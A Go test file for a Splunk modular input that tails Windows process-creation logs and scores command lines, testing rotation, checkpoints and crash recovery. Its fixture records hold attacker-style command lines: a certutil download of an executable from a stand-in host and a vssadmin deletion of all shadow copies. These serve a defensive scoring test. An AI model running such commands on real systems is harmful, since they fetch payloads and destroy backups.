package modinput

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"scorecmdline/src/follow"
)

// faceEnv makes the test binary act as the modular input (see TestMain), so
// the end-to-end tests run it as splunkd would: a subprocess with the
// configuration on stdin.
const faceEnv = "SCORECMDLINE_MODINPUT_TEST_FACE"

func TestMain(m *testing.M) {
	switch os.Getenv(faceEnv) {
	case "run":
		ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, os.Interrupt)
		code := Run(ctx, os.Stdin, os.Stdout, os.Stderr)
		stop()
		os.Exit(code)
	case "scheme":
		if err := Scheme(os.Stdout); err != nil {
			os.Exit(1)
		}
		os.Exit(0)
	case "validate":
		os.Exit(Validate(os.Stdin, os.Stdout, os.Stderr))
	}
	os.Exit(m.Run())
}

// proc is a running modular input.
type proc struct {
	t      *testing.T
	cmd    *exec.Cmd
	stdin  io.WriteCloser
	mu     sync.Mutex
	stdout bytes.Buffer
	stderr bytes.Buffer
	done   chan struct{}
	code   int
	evs    []streamEvent // events parsed so far
	parsed int           // bytes of stdout parsed into evs
}

type lockedWriter struct {
	mu *sync.Mutex
	b  *bytes.Buffer
}

func (w lockedWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}

// startInput runs the input with cfg on stdin, which it leaves open as
// splunkd may.
func startInput(t *testing.T, cfg string) *proc {
	t.Helper()
	p := &proc{t: t, done: make(chan struct{})}
	p.cmd = exec.Command(os.Args[0], "-test.run=^$")
	p.cmd.Env = append(os.Environ(), faceEnv+"=run")
	p.cmd.Stdout = lockedWriter{&p.mu, &p.stdout}
	p.cmd.Stderr = lockedWriter{&p.mu, &p.stderr}
	var err error
	if p.stdin, err = p.cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		p.cmd.Wait()
		p.code = p.cmd.ProcessState.ExitCode()
		close(p.done)
	}()
	io.WriteString(p.stdin, cfg)
	t.Cleanup(func() {
		p.cmd.Process.Kill()
		<-p.done
	})
	return p
}

func (p *proc) output() (stdout, stderr string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.stdout.String(), p.stderr.String()
}

// stop sends SIGTERM, once the input has started (before that the signal
// handler may not be installed), and waits for the exit code.
func (p *proc) stop() int {
	p.t.Helper()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if _, errOut := p.output(); strings.Contains(errOut, ": started: ") {
			break
		}
	}
	p.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-p.done:
	case <-time.After(20 * time.Second):
		p.t.Fatal("input did not stop on SIGTERM")
	}
	p.stdin.Close()
	return p.code
}

func (p *proc) kill() {
	p.cmd.Process.Kill()
	<-p.done
	p.stdin.Close()
}

// events returns the complete events written so far, parsing only what
// is new since the last call.
func (p *proc) events() []streamEvent {
	p.t.Helper()
	p.mu.Lock()
	out := p.stdout.Bytes()[p.parsed:]
	end := bytes.LastIndex(out, []byte("</event>\n"))
	var chunk string
	if end >= 0 {
		chunk = string(out[:end+len("</event>\n")])
		p.parsed += len(chunk)
	}
	p.mu.Unlock()
	p.evs = append(p.evs, parseEvents(p.t, chunk)...)
	return p.evs
}

// waitEvents waits until the input has written at least n events.
func (p *proc) waitEvents(n int) []streamEvent {
	p.t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		evs := p.events()
		if len(evs) >= n {
			return evs
		}
		select {
		case <-p.done:
			if evs = p.events(); len(evs) >= n {
				return evs
			}
			_, errOut := p.output()
			p.t.Fatalf("input exited (%d) after %d of %d events; stderr:\n%s", p.code, len(evs), n, errOut)
		default:
		}
		if time.Now().After(deadline) {
			_, errOut := p.output()
			p.t.Fatalf("%d of %d events after 30s; stderr:\n%s", len(evs), n, errOut)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

type streamEvent struct {
	Stanza     string `xml:"stanza,attr"`
	Unbroken   string `xml:"unbroken,attr"`
	Time       string `xml:"time"`
	Source     string `xml:"source"`
	Sourcetype string `xml:"sourcetype"`
	Index      string `xml:"index"`
	Host       string `xml:"host"`
	Data       string `xml:"data"`
	Done       *struct{}
	payload    map[string]any
	id         string
}

var idRE = regexp.MustCompile(`rec-[a-z]+-[0-9]+`)

// parseEvents decodes the complete events of a stream, ignoring a last event
// cut off by a kill. Each event must be well-formed with a JSON payload.
func parseEvents(t *testing.T, out string) []streamEvent {
	t.Helper()
	out = strings.TrimPrefix(out, "<stream>\n")
	out = strings.TrimPrefix(out, "\n")
	pieces := strings.SplitAfter(out, "</event>\n")
	var evs []streamEvent
	for _, p := range pieces {
		if !strings.HasSuffix(p, "</event>\n") {
			continue // the cut-off tail, or "</stream>\n"
		}
		var e struct {
			streamEvent
			Done *string `xml:"done"`
		}
		if err := xml.Unmarshal([]byte(p), &e); err != nil {
			t.Fatalf("event is not well-formed XML: %v\n%s", err, p)
		}
		if e.Done == nil || e.Unbroken != "1" {
			t.Fatalf("event without <done/> or unbroken=1: %s", p)
		}
		if err := json.Unmarshal([]byte(e.Data), &e.payload); err != nil {
			t.Fatalf("payload is not JSON: %v\n%s", err, e.Data)
		}
		proc, _ := e.payload["process"].(string)
		e.id = idRE.FindString(proc)
		evs = append(evs, e.streamEvent)
	}
	return evs
}

func inputXML(cpDir string, stanzas ...string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><input><server_host>test</server_host><server_uri>https://127.0.0.1:8089</server_uri>` +
		`<session_key>secret</session_key><checkpoint_dir>` + cpDir + `</checkpoint_dir><configuration>` + strings.Join(stanzas, "") +
		`</configuration></input>`
}

func stanzaDoc(name string, params map[string]string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<stanza name="scorecmdline://%s" app="SA-scorecmdline">`, name)
	for _, k := range sortedKeys(params) {
		b.WriteString(param(k, params[k]))
	}
	b.WriteString(`</stanza>`)
	return b.String()
}

// Record generators; every command line carries a unique id.
func jsonRecord(id string) string {
	return fmt.Sprintf(`{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h1","UtcTime":"2023-03-14 09:40:10.905","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c echo %s & certutil -urlcache -split -f http://x/y.exe y.exe","ParentImage":"C:\\Windows\\explorer.exe","ParentCommandLine":"explorer.exe","User":"D\\u","ProcessId":"12","ParentProcessId":"0x10"}`+"\n", id)
}

func xmlRecord(id string) string {
	return fmt.Sprintf(`<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID><TimeCreated SystemTime='2023-03-14T09:31:02.104511800Z'/><Channel>Security</Channel><Computer>h2</Computer></System><EventData><Data Name='SubjectUserName'>jdoe</Data><Data Name='SubjectDomainName'>CORP</Data><Data Name='NewProcessId'>0x1e24</Data><Data Name='NewProcessName'>C:\Windows\System32\vssadmin.exe</Data><Data Name='ProcessId'>0x19cc</Data><Data Name='CommandLine'>vssadmin.exe delete shadows /all /quiet &amp; rem %s &lt;x&gt;</Data><Data Name='ParentProcessName'>C:\Windows\System32\cmd.exe</Data></EventData></Event>`+"\n", id)
}

func csvRecord(id string) string {
	return fmt.Sprintf("2023-03-14 09:00:00,h3,C:\\W\\powershell.exe,\"powershell -c \"\"%s\"\"\n; whoami\",C:\\W\\cmd.exe,D\\v\n", id)
}

const csvHeader = "UtcTime,Computer,Image,CommandLine,ParentImage,User\n"

func writeFileAppend(t testing.TB, path, s string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(s); err != nil {
		t.Fatal(err)
	}
	f.Close()
}

func ids(prefix string, from, to int) []string {
	var out []string
	for i := from; i < to; i++ {
		out = append(out, fmt.Sprintf("rec-%s-%d", prefix, i))
	}
	return out
}

func genLines(gen func(string) string, ids []string) string {
	var b strings.Builder
	for _, id := range ids {
		b.WriteString(gen(id))
	}
	return b.String()
}

// checkExactlyOnce asserts that evs carry exactly the ids in want, once each.
func checkExactlyOnce(t *testing.T, evs []streamEvent, want []string) {
	t.Helper()
	seen := map[string]int{}
	for _, e := range evs {
		seen[e.id]++
	}
	for _, id := range want {
		if seen[id] != 1 {
			t.Errorf("record %s emitted %d times", id, seen[id])
		}
		delete(seen, id)
	}
	for id, n := range seen {
		t.Errorf("unexpected record %q emitted %d times", id, n)
	}
}

func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess test")
	}
	dir := t.TempDir()
	cp := filepath.Join(dir, "checkpoints")
	logs := filepath.Join(dir, "logs")
	os.MkdirAll(logs, 0o755)
	cfg := inputXML(cp,
		stanzaDoc("json", map[string]string{"path": filepath.Join(logs, "*.log"), "poll_interval": "0.05", "batch_size": "7", "index": "idx", "host": "collector", "interval": "0", "disabled": "0"}),
		stanzaDoc("xml", map[string]string{"path": filepath.Join(logs, "*.xml"), "format": "xml", "poll_interval": "0.05"}),
		stanzaDoc("csv", map[string]string{"path": filepath.Join(logs, "*.csv"), "format": "auto", "poll_interval": "0.05"}),
	)
	a, x, c := filepath.Join(logs, "a.log"), filepath.Join(logs, "s.xml"), filepath.Join(logs, "p.csv")
	var want []string

	// Initial data, with a half-written last line and a bad record.
	writeFileAppend(t, a, genLines(jsonRecord, ids("a", 0, 50))+"{not json}\n"+`{"EventID":3,"Channel":"Sysmon"}`+"\n")
	partial := jsonRecord("rec-a-50")
	writeFileAppend(t, a, partial[:40])
	writeFileAppend(t, x, genLines(xmlRecord, ids("x", 0, 10)))
	writeFileAppend(t, c, csvHeader+genLines(csvRecord, ids("c", 0, 10)))
	want = append(want, ids("a", 0, 50)...)
	want = append(want, ids("x", 0, 10)...)
	want = append(want, ids("c", 0, 10)...)

	p := startInput(t, cfg)
	p.waitEvents(len(want))
	time.Sleep(200 * time.Millisecond) // the partial line must not show up
	if evs := p.waitEvents(len(want)); len(evs) != len(want) {
		t.Fatalf("%d events, want %d (partial line consumed?)", len(evs), len(want))
	}

	// Appended while running: complete the partial line, add more.
	writeFileAppend(t, a, partial[40:]+genLines(jsonRecord, ids("a", 51, 70)))
	want = append(want, ids("a", 50, 70)...)
	p.waitEvents(len(want))

	// Rotation: rename, the old writer appends a little more, new file.
	rotated := a + ".1"
	if err := os.Rename(a, rotated); err != nil {
		t.Fatal(err)
	}
	writeFileAppend(t, rotated, genLines(jsonRecord, ids("a", 70, 75)))
	writeFileAppend(t, a, genLines(jsonRecord, ids("b", 0, 10)))
	want = append(want, ids("a", 70, 75)...)
	want = append(want, ids("b", 0, 10)...)
	p.waitEvents(len(want))

	// Truncation: to empty, then new records.
	if err := os.Truncate(a, 0); err != nil {
		t.Fatal(err)
	}
	time.Sleep(150 * time.Millisecond)
	writeFileAppend(t, a, genLines(jsonRecord, ids("t", 0, 3)))
	want = append(want, ids("t", 0, 3)...)
	p.waitEvents(len(want))

	// Copy-truncate rewritten past the old offset before a poll sees it:
	// detected by the fingerprint.
	xmlBefore := genLines(xmlRecord, ids("x", 0, 10))
	rewrite := genLines(xmlRecord, ids("y", 0, 20))
	if err := os.WriteFile(x, []byte(rewrite), 0o644); err != nil { // O_TRUNC then write
		t.Fatal(err)
	}
	if len(rewrite) <= len(xmlBefore) {
		t.Fatal("rewrite must be longer than the old content")
	}
	want = append(want, ids("y", 0, 20)...)
	p.waitEvents(len(want))

	// CSV appended with a quoted multiline field split across two writes.
	rec := csvRecord("rec-c-10")
	cut := strings.Index(rec, "\n") + 1 // inside the quotes
	writeFileAppend(t, c, rec[:cut])
	time.Sleep(150 * time.Millisecond)
	writeFileAppend(t, c, rec[cut:])
	want = append(want, "rec-c-10")
	p.waitEvents(len(want))

	if code := p.stop(); code != 0 {
		t.Fatalf("exit code %d after SIGTERM", code)
	}
	out, errOut := p.output()
	var stream struct {
		XMLName xml.Name      `xml:"stream"`
		Events  []streamEvent `xml:"event"`
	}
	if err := xml.Unmarshal([]byte(out), &stream); err != nil || !strings.HasSuffix(out, "</stream>\n") {
		t.Fatalf("stdout is not one well-formed <stream> (%v)", err)
	}
	evs := parseEvents(t, out)
	checkExactlyOnce(t, evs, want)
	for _, e := range evs {
		checkEvent(t, e)
	}
	checkStderr(t, errOut)
	for _, w := range []string{"skipping bad record: " + a + ":51 ", "no longer matches path", "was truncated", "was rewritten", "skipped=1 bad=1"} {
		if !strings.Contains(errOut, w) {
			t.Errorf("stderr lacks %q:\n%s", w, errOut)
		}
	}
	if strings.Contains(errOut, "secret") {
		t.Error("session key logged")
	}

	// A clean restart repeats nothing and picks up new data.
	writeFileAppend(t, a, genLines(jsonRecord, ids("r", 0, 5)))
	p2 := startInput(t, cfg)
	p2.waitEvents(5)
	time.Sleep(300 * time.Millisecond)
	if code := p2.stop(); code != 0 {
		t.Fatalf("exit %d", code)
	}
	out2, _ := p2.output()
	checkExactlyOnce(t, parseEvents(t, out2), ids("r", 0, 5))
}

// checkEvent checks one event's metadata and CIM fields.
func checkEvent(t *testing.T, e streamEvent) {
	t.Helper()
	pl := e.payload
	if e.Sourcetype != Sourcetype || e.Time == "" || e.Source == "" || !strings.HasPrefix(e.Stanza, "scorecmdline://") {
		t.Errorf("event metadata %+v", e)
	}
	for _, f := range []string{"process", "process_name", "parent_process_name", "user", "dest", "process_path", "risk_score"} {
		if s, ok := pl[f]; !ok || s == "" {
			t.Errorf("%s: payload lacks %s: %v", e.id, f, pl)
		}
	}
	switch e.Stanza {
	case "scorecmdline://json":
		if e.Index != "idx" || e.Host != "collector" || pl["process_id"] != "12" || pl["parent_process_id"] != "16" || pl["parent_process"] != "explorer.exe" {
			t.Errorf("json event %+v %v", e, pl)
		}
		if _, ok := pl["score"].(float64); !ok {
			t.Errorf("score missing or not a number: %v", pl)
		}
	case "scorecmdline://xml":
		if pl["process_id"] != "7716" || pl["user"] != `CORP\jdoe` || pl["dest"] != "h2" || pl["process_name"] != "vssadmin.exe" {
			t.Errorf("xml event %v", pl)
		}
	case "scorecmdline://csv":
		if !strings.Contains(pl["process"].(string), "\n; whoami") {
			t.Errorf("csv multiline field lost: %q", pl["process"])
		}
	}
	if e.Index == "" && e.Stanza == "scorecmdline://json" {
		t.Error("index not set")
	}
}

var logLine = regexp.MustCompile(`^(DEBUG|INFO|WARN|ERROR|FATAL) \S`)

func checkStderr(t *testing.T, s string) {
	t.Helper()
	if s == "" {
		return
	}
	for _, l := range strings.Split(strings.TrimSuffix(s, "\n"), "\n") {
		if !logLine.MatchString(l) {
			t.Errorf("stderr line not in LEVEL message form: %q", l)
		}
	}
}

// TestKillLoop kills the input with SIGKILL at random moments while a
// writer appends, splits lines across writes and rotates (rename + new
// file), restarting it each time. The union of all events must be every
// record, and repeats must stay inside the documented window: a crash
// leaves at most batch_size of the records it sent first outside the
// checkpoint, and only records outside the checkpoint are sent again. Two
// set-ups: a glob that also matches rotated names (rotation at any moment),
// and one that does not (rotation only of a file the input has started on;
// it is then found again by identity).
func TestKillLoop(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess test")
	}
	t.Run("glob covers rotated names", func(t *testing.T) { killLoop(t, "k.log*", false) })
	t.Run("rotated names outside glob", func(t *testing.T) { killLoop(t, "*.log", true) })
}

func killLoop(t *testing.T, glob string, rotateKnownOnly bool) {
	const (
		batch    = 20
		total    = 3000
		minKills = 30
	)
	dir := t.TempDir()
	cp, logs := filepath.Join(dir, "cp"), filepath.Join(dir, "logs")
	os.MkdirAll(logs, 0o755)
	cfg := inputXML(cp, stanzaDoc("k", map[string]string{"path": filepath.Join(logs, glob), "poll_interval": "0.02", "batch_size": fmt.Sprint(batch)}))
	cpFile := follow.CheckpointPath(cp, "scorecmdline://k")
	live := filepath.Join(logs, "k.log")
	seed := uint64(time.Now().UnixNano())
	rng := rand.New(rand.NewPCG(1, seed))
	t.Logf("seed %d", seed)

	seen := map[string]bool{} // over finished runs
	var current *proc         // the running input
	written, rotations := 0, 0
	genFirst := ""                    // first id written to the live file
	emitted := func(id string) bool { // has the input sent id (so it knows the file)?
		if seen[id] {
			return true
		}
		if current == nil {
			return false
		}
		for _, e := range current.events() {
			if e.id == id {
				return true
			}
		}
		return false
	}
	write := func(n int) {
		var b strings.Builder
		for i := 0; i < n && written < total; i++ {
			id := fmt.Sprintf("rec-k-%d", written)
			if genFirst == "" {
				genFirst = id
			}
			b.WriteString(jsonRecord(id))
			written++
		}
		s := b.String()
		if cut := rng.IntN(len(s) + 1); cut > 0 && cut < len(s) {
			writeFileAppend(t, live, s[:cut]) // a line split across writes
			writeFileAppend(t, live, s[cut:])
		} else {
			writeFileAppend(t, live, s)
		}
	}
	rotate := func() {
		if genFirst == "" || rng.IntN(6) != 0 || (rotateKnownOnly && !emitted(genFirst)) {
			return
		}
		rotations++
		if err := os.Rename(live, fmt.Sprintf("%s.%d", live, rotations)); err != nil {
			t.Fatal(err)
		}
		genFirst = ""
	}

	runs, kills := 0, 0
	var unsaved map[string]bool // emitted records the checkpoint does not cover
	for {
		rotate() // while the input is stopped
		p := startInput(t, cfg)
		current = p
		runs++
		finishing := written >= total && kills >= minKills
		deadline := time.Now().Add(time.Duration(5+rng.IntN(200)) * time.Millisecond)
		for time.Now().Before(deadline) && !finishing {
			if written < total {
				write(1 + rng.IntN(40))
				rotate()
			}
			time.Sleep(time.Duration(rng.IntN(10)) * time.Millisecond)
		}
		if finishing {
			// Final run: let it catch up, then stop cleanly.
			for wait := time.Now().Add(30 * time.Second); time.Now().Before(wait); time.Sleep(50 * time.Millisecond) {
				fresh := 0
				for _, e := range p.events() {
					if !seen[e.id] {
						fresh++
					}
				}
				if len(seen)+fresh >= total {
					break
				}
			}
			time.Sleep(200 * time.Millisecond)
			if code := p.stop(); code != 0 {
				t.Fatalf("final run exit %d", code)
			}
		} else {
			p.kill()
			kills++
		}
		current = nil
		_, errOut := p.output()
		checkStderr(t, errOut)
		var dups []string
		fresh := map[string]bool{}
		for _, e := range p.events() {
			if fresh[e.id] {
				t.Fatalf("run %d emitted %s twice", runs, e.id)
			}
			if seen[e.id] {
				dups = append(dups, e.id)
				// Only what the previous checkpoint left uncovered is repeated.
				if !unsaved[e.id] {
					t.Errorf("run %d repeated %s, which the checkpoint covered", runs, e.id)
				}
			} else {
				fresh[e.id] = true
			}
			seen[e.id] = true
		}
		if finishing {
			if len(seen) < total {
				t.Logf("final run stderr:\n%s", errOut)
			}
			break
		}
		// The window: of the records this run sent first, at most
		// batch_size are not covered by the checkpoint it left.
		unsaved = uncovered(t, logs, glob, cpFile, seen)
		newUnsaved := 0
		for id := range unsaved {
			if fresh[id] {
				newUnsaved++
			}
		}
		if newUnsaved > batch {
			t.Errorf("run %d left %d of its new records outside the checkpoint, more than batch_size %d", runs, newUnsaved, batch)
		}
		if len(dups) > 0 {
			t.Logf("run %d repeated %d records", runs, len(dups))
		}
	}
	missing := 0
	for i := 0; i < total; i++ {
		if !seen[fmt.Sprintf("rec-k-%d", i)] {
			missing++
			if missing < 10 {
				t.Errorf("record rec-k-%d never emitted", i)
			}
		}
	}
	if missing > 0 || len(seen) != total {
		t.Fatalf("%d missing, %d distinct ids seen, want %d", missing, len(seen), total)
	}
	t.Logf("%d runs, %d SIGKILLs, %d rotations, %d records", runs, kills, rotations, total)
}

// uncovered returns the emitted records a restart will read again: those
// past a checkpointed file's offset, and all of a file the checkpoint does
// not list but the glob matches.
func uncovered(t *testing.T, logs, glob, cpFile string, emitted map[string]bool) map[string]bool {
	t.Helper()
	// The checkpoint's documented form: the files' identities and offsets.
	var doc struct {
		Files []struct {
			Dev, Ino uint64
			Offset   int64
		}
	}
	switch b, err := os.ReadFile(cpFile); {
	case errors.Is(err, fs.ErrNotExist):
		// Killed before its first save: the checkpoint covers nothing.
	case err != nil:
		t.Fatal(err)
	default:
		if err := json.Unmarshal(b, &doc); err != nil {
			t.Fatal(err)
		}
	}
	offsets := map[[2]uint64]int64{}
	for _, e := range doc.Files {
		offsets[[2]uint64{e.Dev, e.Ino}] = e.Offset
	}
	ents, err := os.ReadDir(logs)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]bool{}
	for _, de := range ents {
		p := filepath.Join(logs, de.Name())
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		off, listed := offsets[inode(fi)]
		if match, _ := filepath.Match(glob, de.Name()); !listed && !match {
			continue // retired or never known: not read again
		}
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, id := range idRE.FindAllString(string(b[off:]), -1) {
			if emitted[id] {
				out[id] = true
			}
		}
	}
	return out
}

// TestSubprocessFaces runs --scheme and --validate-arguments as splunkd does.
func TestSubprocessFaces(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess test")
	}
	run := func(face, stdin string) (string, int) {
		cmd := exec.Command(os.Args[0], "-test.run=^$")
		cmd.Env = append(os.Environ(), faceEnv+"="+face)
		cmd.Stdin = strings.NewReader(stdin)
		out, _ := cmd.Output()
		return string(out), cmd.ProcessState.ExitCode()
	}
	var want bytes.Buffer
	Scheme(&want)
	if out, code := run("scheme", ""); code != 0 || out != want.String() {
		t.Errorf("scheme: exit %d, output %q", code, out)
	}
	if out, code := run("validate", itemsXML(param("path", "/x/*.log")+param("format", "yaml"))); code == 0 || !strings.HasPrefix(out, "<error><message>Illegal value: format=yaml") {
		t.Errorf("validate: exit %d, output %q", code, out)
	}
	if out, code := run("validate", itemsXML(param("path", "/x/*.log"))); code != 0 || out != "" {
		t.Errorf("validate good: exit %d, output %q", code, out)
	}
}
